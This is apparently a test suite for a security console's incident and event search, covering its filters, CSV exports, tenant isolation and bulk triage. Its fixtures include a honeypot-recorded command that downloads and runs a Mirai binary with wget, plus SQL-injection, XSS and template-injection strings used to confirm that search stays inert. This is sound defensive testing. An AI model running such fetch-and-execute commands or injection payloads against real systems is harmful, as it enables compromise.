import { afterAll, beforeAll, expect, test } from "bun:test"
import { mkdtempSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { SqlClient } from "@effect/sql"
import { Effect } from "effect"
import { asOperator } from "../../src/admin/actor.ts"
import { IncidentAdmin } from "../../src/admin/IncidentAdmin.ts"
import { parseCsv } from "../../src/console/csv.ts"
import {
  type Browser,
  launchBrowser,
  screenshot,
  seriousAccessibilityViolations,
  watchedContext,
} from "../support/browser.ts"
import { freePort, setPassword } from "../support/console.ts"
import { type TestDatabase, testDatabase } from "../support/db.ts"
import { createSensor, createTenant, createUser, seedIncident } from "../support/fixtures.ts"
import { ingest } from "../support/ingest.ts"
import { type RunningServer, shutdown, startServer, testEnv } from "../support/server.ts"

/**
 * The Incidents and Events lists' filters and search on a real server and database: each filter and their
 * combinations on both lists and their CSV exports, the search over attacker input and summaries (a Cowrie session's
 * command, download URL and hash), hostile searches answered and inert, paging that keeps the filters, nothing of
 * another organization, the bulk triage controls, and the filter form in a browser.
 */

const PASSWORD = "correct horse battery staple"
const RUN = Date.now().toString(36)

let server: RunningServer
let db: TestDatabase
let consoleUrl: string
let orgId: string
let cookie: string
let me: { id: string }
let colleague: { id: string }
let web: { id: string; token: string }
let mail: { id: string; token: string }
let browser: Browser

interface Made {
  readonly id: string
  readonly sensorId: string
  readonly sourceIp: string
  readonly types: ReadonlyArray<string>
  readonly first: Date
  readonly last: Date
  readonly severity: string
  readonly eventIds: ReadonlyArray<string>
  /** The attacker input of its events, as JSON text. */
  readonly input: string
  owner?: string | undefined
  scope: "internal" | "external"
  status: "open" | "closed"
}
const made: Array<Made> = []
/** The Cowrie session's incident (internal: its source is in a private range). */
let cowrie: { id: string; eventIds: ReadonlyArray<string> }
let otherOrgIncident: string

const at = (text: string) => new Date(text)
const SHASUM = "4c2e1f0d9b8a7c6e5f4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f"
const URL_FETCHED = "http://203.0.113.66/bins/mirai.x86"
const COMMAND = `cd /tmp; wget ${URL_FETCHED} -O .m; chmod +x .m; ./.m ssh.rep`

const cookiesOf = (res: Response) =>
  res.headers
    .getSetCookie()
    .map((c) => c.split(";")[0])
    .join("; ")

const signIn = async (email: string, password: string): Promise<string> => {
  const form = await fetch(`${consoleUrl}/sign-in`)
  const csrf = /name="csrf" value="([^"]+)"/.exec(await form.text())?.[1] ?? ""
  const res = await fetch(`${consoleUrl}/sign-in`, {
    method: "POST",
    redirect: "manual",
    headers: { cookie: cookiesOf(form), "content-type": "application/x-www-form-urlencoded", origin: consoleUrl },
    body: new URLSearchParams({ csrf, email, password, next: "/" }),
  })
  expect(res.status).toBe(303)
  return res.headers
    .getSetCookie()
    .map((c) => c.split(";")[0])
    .filter((c) => c?.startsWith("__Host-session="))
    .join("; ")
}

const page = async (path: string) => {
  const res = await fetch(`${consoleUrl}${path}`, { headers: { cookie }, redirect: "manual" })
  return { status: res.status, text: await res.text() }
}
const csvOf = async (path: string) => {
  const res = await fetch(`${consoleUrl}${path}`, { headers: { cookie }, redirect: "manual" })
  const text = await res.text()
  return { status: res.status, text, rows: res.status === 200 ? parseCsv(text) : [] }
}

const incidentIdsOnPage = (html: string) =>
  [...html.matchAll(/<input type="checkbox" name="ids" value="(inc_[A-Za-z0-9]+)"/g)].map((m) => m[1] as string)
const eventIdsOnPage = (html: string) => [...html.matchAll(/<tr id="(evt_[A-Za-z0-9]+)"/g)].map((m) => m[1] as string)
const byRecent = (a: Made, b: Made) => b.last.getTime() - a.last.getTime() || (a.id < b.id ? 1 : -1)

beforeAll(async () => {
  const port = freePort()
  consoleUrl = `http://127.0.0.1:${port}`
  server = await startServer({ env: await testEnv({ CONSOLE_PORT: String(port), APP_URL: consoleUrl }) })
  db = testDatabase(server.env)
  const tenant = await createTenant(db, `Search ${RUN}`)
  orgId = tenant.orgId
  web = await createSensor(db, orgId, "dmz-web-01")
  mail = await createSensor(db, orgId, "mail-02")

  const seed = async (
    sensorId: string,
    sourceIp: string,
    events: ReadonlyArray<{ time: Date; type?: string; severity?: "low" | "medium" | "high" | "critical" }>,
    attackerInput: Record<string, unknown> = { username: "oracle" },
    status: "open" | "closed" = "open",
  ) => {
    const m = await seedIncident(db, {
      orgId,
      sensorId,
      sourceIp,
      status,
      resolvedAt: status === "closed" ? (events.at(-1)?.time ?? null) : null,
      events: events.map((e) => ({ ...e, attackerInput })),
    })
    made.push({
      id: m.incident.id,
      sensorId,
      sourceIp,
      types: m.incident.eventTypes,
      first: m.incident.firstSeenAt,
      last: m.incident.lastSeenAt,
      severity: m.incident.severity,
      eventIds: m.events.map((e) => e.id),
      input: JSON.stringify(attackerInput),
      scope: "external",
      status,
    })
  }
  await seed(web.id, "203.0.113.5", [
    { time: at("2026-11-25T10:00:00Z"), type: "ssh.login_attempt", severity: "low" },
    { time: at("2026-11-26T12:00:00Z"), type: "ssh.command", severity: "high" },
  ])
  await seed(
    web.id,
    "203.0.113.77",
    [{ time: at("2026-11-27T01:00:00Z"), type: "http.request" }],
    { path: "/cgi-bin/100%_done\\x.php", userAgent: "Mozilla/5.0 'quoted' \"double\"" },
    "closed",
  )
  await seed(mail.id, "198.51.100.9", [{ time: at("2026-11-24T08:00:00Z"), type: "smb.file_open" }], {
    filename: "Q4-Payroll_FINAL.xlsx",
  })
  await seed(mail.id, "2001:db8::5", [{ time: at("2026-11-26T09:00:00Z"), severity: "medium" }])
  await seed(mail.id, "203.0.114.1", [{ time: at("2026-11-23T10:00:00Z"), severity: "critical" }])
  // Twelve more, for paging under a filter (mail's sensor, from one /24).
  for (let k = 0; k < 12; k++) {
    await seed(mail.id, `192.0.2.${10 + k}`, [{ time: new Date(at("2026-11-20T00:00:00Z").getTime() + k * 60_000) }], {
      username: `pager-${k}`,
    })
  }

  // A Cowrie session from inside (a private range): a login, a command that downloads and runs a file, the download.
  const line = (ms: number, eventid: string, fields: Record<string, unknown>) => ({
    session: `srch${RUN}`.slice(0, 12),
    src_ip: "10.20.30.40",
    src_port: 50123,
    dst_ip: "192.0.2.1",
    dst_port: 22,
    sensor: "cowrie-1",
    eventid,
    timestamp: new Date(at("2026-11-26T06:00:00Z").getTime() + ms).toISOString(),
    ...fields,
  })
  const sent = await ingest(server.ingestUrl, "cowrie", web.token, [
    line(0, "cowrie.session.connect", { protocol: "ssh" }),
    line(100, "cowrie.login.success", { username: "admin", password: "admin" }),
    line(200, "cowrie.command.input", { input: COMMAND }),
    line(300, "cowrie.session.file_download", {
      url: URL_FETCHED,
      shasum: SHASUM,
      outfile: `var/lib/cowrie/downloads/${SHASUM}`,
    }),
  ])
  expect(sent.status).toBe(200)
  type CowrieRow = {
    id: string
    sourceScope: string
    eventTypes: Array<string>
    firstSeenAt: Date
    lastSeenAt: Date
    eventIds: Array<string>
  }
  const [row] = await db.run(
    Effect.flatMap(
      SqlClient.SqlClient,
      (sql) => sql<CowrieRow>`
        select i.id, i.source_scope, i.event_types, i.first_seen_at, i.last_seen_at,
          array(select e.id from events e where e.incident_id = i.id order by e.id) as event_ids
        from incidents i where i.org_id = ${orgId} and i.source_ip = '10.20.30.40'`,
    ).pipe(Effect.orDie),
  )
  if (row === undefined) throw new Error("the Cowrie session made no incident")
  expect(row.sourceScope).toBe("internal")
  cowrie = { id: row.id, eventIds: row.eventIds }

  // Another organization with the same command, URL and hash: never in this organization's lists or exports.
  const other = await createTenant(db, `Other ${RUN}`)
  const otherSensor = await createSensor(db, other.orgId, "elsewhere")
  otherOrgIncident = (
    await seedIncident(db, {
      orgId: other.orgId,
      sensorId: otherSensor.id,
      sourceIp: "203.0.113.5",
      events: [
        { time: at("2026-11-26T10:00:00Z"), type: "ssh.command", attackerInput: { input: COMMAND, shasum: SHASUM } },
      ],
    })
  ).incident.id

  const lead = await createUser(db, orgId, `lead-${RUN}@acme.example`, "admin")
  const peer = await createUser(db, orgId, `peer-${RUN}@acme.example`, "analyst")
  me = lead
  colleague = peer
  await setPassword(consoleUrl, lead.link, PASSWORD)
  cookie = await signIn(`lead-${RUN}@acme.example`, PASSWORD)

  // Owners: the first incident is the signed-in user's, the fourth a colleague's, the rest nobody's.
  const assign = (ids: ReadonlyArray<string>, user: string) =>
    db.run(asOperator(Effect.flatMap(IncidentAdmin, (a) => a.assign(orgId, ids, user))))
  await assign([(made[0] as Made).id], me.id)
  await assign([(made[3] as Made).id], colleague.id)
  ;(made[0] as Made).owner = me.id
  ;(made[3] as Made).owner = colleague.id
  made.push({
    id: cowrie.id,
    sensorId: web.id,
    sourceIp: "10.20.30.40",
    types: row.eventTypes,
    first: new Date(row.firstSeenAt),
    last: new Date(row.lastSeenAt),
    severity: "",
    eventIds: cowrie.eventIds,
    input: COMMAND,
    scope: "internal",
    status: "open",
  })
  browser = await launchBrowser()
}, 180_000)

afterAll(async () => {
  await browser?.close()
  await shutdown(server, db)
})

/** Every incident the filter `q` (with placeholders) should list, newest activity first. */
const INCIDENT_CASES: ReadonlyArray<[string, (i: Made) => boolean]> = [
  ["", () => true],
  ["status=closed", (i) => i.status === "closed"],
  ["status=open&sensor=MAIL", (i) => i.status === "open" && i.sensorId === mail.id],
  ["source=203.0.113.5", (i) => i.sourceIp === "203.0.113.5"],
  ["source=203.0.113.0/24", (i) => i.sourceIp.startsWith("203.0.113.")],
  ["source=2001:DB8::/32", (i) => i.sourceIp === "2001:db8::5"],
  ["type=ssh.command", (i) => i.types.includes("ssh.command")],
  ["type=smb.file_open&sensor=MAIL", (i) => i.types.includes("smb.file_open")],
  ["owner=me", (i) => i.owner === me.id],
  ["owner=COLLEAGUE", (i) => i.owner === colleague.id],
  ["owner=none", (i) => i.owner === undefined],
  ["scope=internal", (i) => i.scope === "internal"],
  ["scope=external&source=203.0.113.0/24", (i) => i.scope === "external" && i.sourceIp.startsWith("203.0.113.")],
  // Activity overlapping the range: the first incident (25th to 26th) overlaps a range on the 26th.
  [
    "from=2026-11-26&to=2026-11-26",
    (i) => i.last >= at("2026-11-26T00:00:00Z") && i.first < at("2026-11-27T00:00:00Z"),
  ],
  ["to=2026-11-23", (i) => i.first < at("2026-11-24T00:00:00Z")],
  ["q=oracle", (i) => i.input.includes("oracle")],
  ["q=ORACLE&sensor=MAIL", (i) => i.input.includes("oracle") && i.sensorId === mail.id],
  ["q=PAYROLL_final", (i) => i.sourceIp === "198.51.100.9"],
  ["q=100%25_done", (i) => i.sourceIp === "203.0.113.77"],
  ["q=pager-1&sensor=MAIL", (i) => /^192\.0\.2\.(11|20|21)$/.test(i.sourceIp)],
  ["q=oracle&owner=me&severity=high&type=ssh.command", (i) => i.owner === me.id],
]

const placeholders = (q: string) => q.replace("MAIL", mail.id).replace("COLLEAGUE", colleague.id).replace("WEB", web.id)

/** Walks every page of the list (Next page links), returning the incident ids in order and the pages' texts. */
const walkIncidents = async (query: string) => {
  const ids: Array<string> = []
  let path: string | undefined = `/incidents${query === "" ? "" : `?${query}`}`
  const pages: Array<string> = []
  while (path !== undefined) {
    const res = await page(path)
    expect(res.status).toBe(200)
    pages.push(res.text)
    ids.push(...incidentIdsOnPage(res.text))
    const next = /<a href="([^"]+)">Next page<\/a>/.exec(res.text)?.[1]
    path = next?.replaceAll("&amp;", "&")
  }
  return { ids, pages }
}

test("Incidents: each filter and combination lists exactly the matching incidents, and the CSV export equals the list", async () => {
  for (const [raw, keep] of INCIDENT_CASES) {
    const query = placeholders(raw)
    const want = made
      .filter(keep)
      .sort(byRecent)
      .map((i) => i.id)
    const { ids, pages } = await walkIncidents(query)
    expect({ query, ids }).toEqual({ query, ids: want })
    expect(pages[0]).not.toContain("notice-error")
    const csv = await csvOf(`/incidents.csv?${query}`)
    expect(csv.status).toBe(200)
    expect({ query, ids: csv.rows.slice(1).map((r) => r[0]) }).toEqual({ query, ids: want })
  }
})

test("Incidents: every filter is shown back in the form, and paging keeps the filters", async () => {
  const query = `status=open&sensor=${mail.id}&source=192.0.2.0%2F24&type=ssh.login_attempt&owner=none&scope=external&from=2026-11-01&to=2026-11-30&q=pager-`
  const { ids, pages } = await walkIncidents(query)
  expect(ids).toHaveLength(12)
  expect(pages).toHaveLength(1)
  // 12 under the filter fit on one page; the filter matched only those: paging with a filter past the page size is
  // walked below with the wider list.
  const first = pages[0] as string
  expect(first).toContain(`<option value="${mail.id}" selected="">mail-02</option>`)
  expect(first).toContain(`value="192.0.2.0/24"`)
  expect(first).toContain(`<option value="ssh.login_attempt" selected="">`)
  expect(first).toContain(`<option value="none" selected="">Nobody</option>`)
  expect(first).toContain(`<option value="external" selected="">Outside</option>`)
  expect(first).toContain(`value="2026-11-01"`)
  expect(first).toContain(`value="pager-"`)
  expect(first).toContain(`href="/incidents.csv?${query.replaceAll("&", "&amp;")}"`)
})

test("Incidents: paging past the first page keeps every filter and the search", async () => {
  // More than one page: 51 incidents of one sensor whose events all hold the same word.
  for (let k = 0; k < 51; k++) {
    await seedIncident(db, {
      orgId,
      sensorId: web.id,
      sourceIp: `198.18.0.${k + 1}`,
      events: [
        {
          time: new Date(at("2026-10-01T00:00:00Z").getTime() + k * 1000),
          attackerInput: { input: "busybox MANYPAGES" },
        },
      ],
    })
  }
  const { ids, pages } = await walkIncidents(`sensor=${web.id}&q=manypages&status=open`)
  expect(pages).toHaveLength(2)
  expect(new Set(ids).size).toBe(51)
  expect(pages[1]).toContain('value="manypages"')
  expect(pages[1]).toContain("First page")
})

test("Search finds the Cowrie session's incident and events by its command, its download URL and its hash", async () => {
  for (const q of [
    "wget http://203.0.113.66/bins/",
    URL_FETCHED,
    SHASUM,
    SHASUM.slice(10, 30).toUpperCase(),
    "./.m ssh.rep",
  ]) {
    const incidents = await walkIncidents(`q=${encodeURIComponent(q)}`)
    expect({ q, ids: incidents.ids }).toEqual({ q, ids: [cowrie.id] })
    expect(incidents.ids).not.toContain(otherOrgIncident)
    const events = await page(`/events?q=${encodeURIComponent(q)}`)
    expect(events.status).toBe(200)
    const found = eventIdsOnPage(events.text)
    expect(found.length).toBeGreaterThan(0)
    for (const id of found) expect(cowrie.eventIds).toContain(id)
  }
  // The download event itself holds the hash; the command event holds the URL in its command.
  const byHash = eventIdsOnPage((await page(`/events?q=${SHASUM}`)).text)
  expect(byHash).toHaveLength(1)
  const byUrl = eventIdsOnPage((await page(`/events?q=${encodeURIComponent(URL_FETCHED)}`)).text)
  expect(byUrl).toHaveLength(2)
  // Another organization's identical event is never found, on the page or in the export.
  const csv = await csvOf(`/events.csv?q=${SHASUM}`)
  expect(csv.status).toBe(200)
  expect(csv.rows.slice(1).map((r) => r[2])).toEqual([cowrie.id])
})

test("Events: the scope and search filters, alone and with the others, on the page and in the CSV", async () => {
  const cases: ReadonlyArray<[string, ReadonlyArray<string>]> = [
    ["scope=internal", cowrie.eventIds],
    ["scope=internal&type=smb.file_open", []],
    ["scope=external&q=mirai.x86", []],
    ["q=oracle&sensorId=WEB", (made[0] as Made).eventIds],
    ["q=oracle&scope=internal", []],
    ["q=payroll&sourceIp=198.51.100.0/24", (made[2] as Made).eventIds],
    ["q=q4-payroll&from=2026-11-25", []],
  ]
  for (const [raw, want] of cases) {
    const query = placeholders(raw)
    const res = await page(`/events?${query}`)
    expect(res.status).toBe(200)
    expect(res.text).not.toContain("notice-error")
    expect({ query, ids: [...eventIdsOnPage(res.text)].sort() }).toEqual({ query, ids: [...want].sort() })
    const csv = await csvOf(`/events.csv?${query}`)
    expect(csv.status).toBe(200)
    expect({
      query,
      ids: csv.rows
        .slice(1)
        .map((r) => r[1] as string)
        .sort(),
    }).toEqual({ query, ids: [...want].sort() })
  }
  // Inside and a hash: the Cowrie session's download event alone.
  const hashed = eventIdsOnPage((await page(`/events?scope=internal&q=${SHASUM}`)).text)
  expect(hashed).toHaveLength(1)
  expect(cowrie.eventIds).toContain(hashed[0] as string)
  const page1 = await page(`/events?scope=internal&q=${encodeURIComponent("wget")}`)
  expect(page1.text).toContain(`<option value="internal" selected="">Inside your networks</option>`)
  expect(page1.text).toContain(`value="wget"`)
})

test("A hostile search is a parameter: quotes, wildcards and backslashes are literal, and the page stays inert", async () => {
  const hostile = [
    `'; drop table events; --`,
    `" onmouseover="alert(1)`,
    "<script>alert(1)</script>",
    "%",
    "_",
    "\\",
    "%%%_\\%",
    "' or 1=1 --",
    "$" + "{7*7}{{7*7}}",
    "日本語 ✓ 🙂",
  ]
  for (const q of hostile) {
    for (const list of ["incidents", "events"]) {
      const res = await page(`/${list}?q=${encodeURIComponent(q)}`)
      expect({ q, list, status: res.status }).toEqual({ q, list, status: 200 })
      expect(res.text).not.toContain("<script>alert(1)</script>")
      expect(res.text).not.toContain(`" onmouseover="alert(1)`)
      expect(res.text).not.toContain("notice-error")
    }
  }
  // `%` and `_` match only themselves: one incident's path holds "100%_done", no other text holds either.
  expect((await walkIncidents("q=%25")).ids).toEqual([(made[1] as Made).id])
  const underscore = (await walkIncidents("q=_")).ids
  expect(underscore).toContain((made[1] as Made).id)
  expect(underscore).toContain((made[2] as Made).id)
  expect(underscore).not.toContain((made[0] as Made).id)
  expect((await walkIncidents(`q=${encodeURIComponent("%_done\\")}`)).ids).toEqual([(made[1] as Made).id])
  expect((await walkIncidents(`q=${encodeURIComponent("'quoted' \"double\"")}`)).ids).toEqual([(made[1] as Made).id])
  // Nothing else matches a wildcard as such.
  expect((await walkIncidents(`q=${encodeURIComponent("o%e")}`)).ids).toEqual([])
  // Control characters and values past the console's 4096-character bound are refused before any route runs.
  for (const q of ["a\u0000b", "x\u0007", "y\u001b[31m", "x".repeat(10 * 1024)]) {
    for (const path of ["/incidents", "/events", "/incidents.csv", "/events.csv"]) {
      const res = await page(`${path}?q=${encodeURIComponent(q)}`)
      expect({ q: q.slice(0, 8), path, status: res.status }).toEqual({ q: q.slice(0, 8), path, status: 400 })
    }
  }
})

test("A search over 200 characters is refused with a message; the export is refused", async () => {
  const long = "a".repeat(201)
  for (const list of ["incidents", "events"]) {
    const res = await page(`/${list}?q=${long}`)
    expect(res.status).toBe(200)
    expect(res.text).toContain("“Search” must be at most 200 characters (it has 201).")
    // The typed value stays in the box, to be shortened.
    expect(res.text).toContain(`value="${long}"`)
    const csv = await csvOf(`/${list}.csv?q=${long}`)
    expect(csv.status).toBe(400)
    expect(csv.text).toContain("“Search” must be at most 200 characters")
  }
  const exact = await page(`/incidents?q=${"a".repeat(200)}`)
  expect(exact.text).not.toContain("notice-error")
})

test("Values that cannot be read are named on the Incidents page and refused by its export", async () => {
  const res = await page(
    "/incidents?status=gone&source=300.1.1.1&type=nope&owner=usr_nobody&scope=middle&from=yesterday&sensor=x",
  )
  expect(res.status).toBe(200)
  for (const message of [
    "“Status” must be open or closed.",
    "“Source” must be an IPv4 address",
    "“Event type” must be one of the listed event types.",
    "“Owner” must be me, nobody or one of the listed users.",
    "“Inside or outside” must be internal (inside your networks) or external.",
    "“From” must be a date such as 2026-11-26",
    "“Sensor” must be one of the listed sensors.",
  ]) {
    expect(res.text).toContain(message)
  }
  // The other filters still apply: nothing here was readable, so every incident is listed.
  expect(new Set(incidentIdsOnPage(res.text)).size).toBeGreaterThan(0)
  expect((await csvOf("/incidents.csv?owner=someone")).status).toBe(400)
  expect((await page("/incidents?from=2026-11-28&to=2026-11-26")).text).toContain("“From” must not be later than “To”.")
})

test("Incidents list: owner and acknowledgement shown, a checkbox per row in the bulk triage form", async () => {
  const res = await page(`/incidents?owner=me`)
  expect(res.text).toContain(`lead-${RUN}@acme.example`)
  expect(res.text).toContain("not acknowledged")
  expect(res.text).toContain('<form id="bulk-triage" class="search-bulk" method="post" action="/incidents/triage">')
  expect(res.text).toContain('name="csrf"')
  expect(res.text).toContain('<input type="hidden" name="back" value="/incidents?owner=me"/>')
  expect(res.text).toContain(`<option value="${colleague.id}">peer-${RUN}@acme.example</option>`)
  expect(res.text).toContain('name="action" value="acknowledge"')
  expect(res.text).toContain('name="action" value="assign"')
  expect(res.text).toMatch(/<input type="checkbox" name="ids" value="inc_[A-Za-z0-9]+" form="bulk-triage"/)
  await db.run(asOperator(Effect.flatMap(IncidentAdmin, (a) => a.acknowledge(orgId, [(made[0] as Made).id]))))
  expect((await page(`/incidents?owner=me`)).text).toContain("acknowledged <")
})

const shots = mkdtempSync(join(tmpdir(), "dsvc-shots-"))

test("In a browser: the filter form searches and filters, keeps its values, and is accessible", async () => {
  const { context, watch } = await watchedContext(browser)
  const p = await context.newPage()
  await p.goto(`${consoleUrl}/sign-in`)
  await p.fill("#email", `lead-${RUN}@acme.example`)
  await p.fill("#password", PASSWORD)
  await Promise.all([p.waitForNavigation(), p.click("button[type=submit]")])
  await p.goto(`${consoleUrl}/incidents`)
  await p.fill("#q", "wget http://203.0.113.66")
  await p.selectOption("#scope", "internal")
  await p.selectOption("#status", "open")
  await Promise.all([p.waitForNavigation(), p.click("form.search-filters button[type=submit]")])
  const url = new URL(p.url())
  expect(url.searchParams.get("q")).toBe("wget http://203.0.113.66")
  expect(url.searchParams.get("scope")).toBe("internal")
  expect(await p.inputValue("#q")).toBe("wget http://203.0.113.66")
  const selectable = p.locator('input[name="ids"]')
  expect(await selectable.count()).toBe(1)
  expect(await selectable.getAttribute("value")).toBe(cowrie.id)
  expect(await seriousAccessibilityViolations(p)).toEqual([])
  await screenshot(p, "incidents-search", shots)
  await p.goto(`${consoleUrl}/events?q=${encodeURIComponent(SHASUM)}`)
  expect(await seriousAccessibilityViolations(p)).toEqual([])
  expect(watch.errors).toEqual([])
  await context.close()
})

test("In a browser: the bulk triage form acknowledges and assigns the checked incidents, back on the same filtered list", async () => {
  const { context, watch } = await watchedContext(browser)
  const p = await context.newPage()
  await p.goto(`${consoleUrl}/sign-in`)
  await p.fill("#email", `lead-${RUN}@acme.example`)
  await p.fill("#password", PASSWORD)
  await Promise.all([p.waitForNavigation(), p.click("button[type=submit]")])
  const listed = `/incidents?scope=internal&q=${encodeURIComponent("mirai.x86")}`
  await p.goto(`${consoleUrl}${listed}`)
  await p.check(`input[name="ids"][value="${cowrie.id}"]`)
  await Promise.all([p.waitForNavigation(), p.click('form#bulk-triage button[value="acknowledge"]')])
  let url = new URL(p.url())
  expect(url.pathname).toBe("/incidents")
  expect(url.searchParams.get("q")).toBe("mirai.x86")
  expect(url.searchParams.get("scope")).toBe("internal")
  expect(await p.textContent("main")).toContain("acknowledged")
  expect(await p.textContent("main")).not.toContain("not acknowledged")
  await p.check(`input[name="ids"][value="${cowrie.id}"]`)
  await p.selectOption("#bulk-assignee", colleague.id)
  await Promise.all([p.waitForNavigation(), p.click('form#bulk-triage button[value="assign"]')])
  url = new URL(p.url())
  expect(url.searchParams.get("q")).toBe("mirai.x86")
  expect(await p.textContent("main")).toContain(`peer-${RUN}@acme.example`)
  // The owner filter now finds it under the colleague, and no longer under nobody.
  expect((await walkIncidents(`owner=${colleague.id}&q=mirai.x86`)).ids).toEqual([cowrie.id])
  expect((await walkIncidents("owner=none&q=mirai.x86")).ids).toEqual([])
  expect(await seriousAccessibilityViolations(p)).toEqual([])
  expect(watch.errors).toEqual([])
  await context.close()
})
